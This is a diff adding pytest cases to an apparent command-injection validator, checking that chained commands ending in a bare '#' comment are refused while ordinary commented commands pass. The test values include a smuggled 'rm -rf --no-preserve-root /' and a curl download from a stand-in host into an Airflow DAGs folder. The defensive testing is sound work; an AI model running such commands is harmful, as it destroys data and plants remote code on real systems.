@@ -851,3 +851,20 @@ def test_dashes_after_an_address_pass(edge, value):
                                    "1 | r^e^g q^u^e^r^y HKLM"])
 def test_caret_escaped_subcommands_refused(rce_edge, value):
     assert_blocked_by_rce(rce_edge, value)
+
+
+# A command line chained on one line and ended by a bare shell comment:
+# the "#" discards what the application appends. A reader's example
+# comments with words, or not at all.
+@pytest.mark.parametrize("value", [
+    "python /opt/airflow/dags/scripts/sync.py; rm -rf --no-preserve-root / #",
+    "python /opt/jobs/sync.py; curl -s http://x.example/d.py -o /opt/airflow/dags/d.py #"])
+def test_chains_ended_by_a_bare_comment_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ["ls -la # list files",
+                                   "git log --oneline | head -5 # recent commits",
+                                   "make clean && make all # rebuild", "python sync.py; echo done"])
+def test_commented_examples_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
